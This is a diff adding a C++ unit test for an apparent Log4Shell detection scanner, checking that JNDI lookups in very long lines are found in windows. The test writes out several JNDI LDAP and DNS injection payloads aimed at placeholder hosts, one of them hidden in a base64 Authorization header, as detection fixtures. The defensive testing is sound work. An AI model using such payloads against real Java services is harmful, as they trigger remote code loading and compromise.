@@ -98,6 +98,27 @@ TEST(DetectionTest, ScanBlockPositions) {
   EXPECT_EQ(found[1].jndi[0].host, "y.example");
 }
 
+TEST(DetectionTest, VeryLongLinesAreExaminedInWindows) {
+  // Payloads far apart in a multi-megabyte line, one of them base64: each is
+  // found (one evaluation of the whole line would exhaust its budget).
+  std::string filler;
+  while (filler.size() < 3 * kMaxExamined) filler += std::string(40000, 'x') + " ${placeholder} ";
+  std::string encoded = "Authorization: Basic " + std::string("bG9nNHNoZWxsOiR7am5kaTpsZGFwOi8vYjY0LmV4YW1wbGUvYX0=");
+  std::string block = "first\n" + filler + "${jndi:ldap://mid.example/a} " + filler + encoded + " " + filler +
+                      "${jndi:dns://tail.example/x}\nnext ${jndi:ldap://next.example/b}\n";
+  std::vector<Detection> found;
+  uint64_t lines = ScanBlock(block, 0, 1, [&](Detection&& d) { found.push_back(std::move(d)); });
+  EXPECT_EQ(lines, 3u);
+  std::vector<std::string> hosts;
+  for (const Detection& d : found) {
+    if (d.jndi.empty()) continue;
+    hosts.push_back(d.jndi[0].host);
+    EXPECT_EQ(d.offset, d.jndi[0].host == "next.example" ? block.find("next") : 6u);
+  }
+  EXPECT_EQ(hosts, (std::vector<std::string>{"mid.example", "b64.example", "tail.example", "next.example"}));
+  for (const Detection& d : found) EXPECT_NE(d.verdict, Verdict::kDosOnly) << d.raw.substr(0, 80);
+}
+
 // Acceptance: every real header payload in Corelight's Zeek notice.log
 // (11-13 December 2021) is found with the callback host Zeek extracted.
 TEST(DetectionTest, CorelightNoticeLog) {
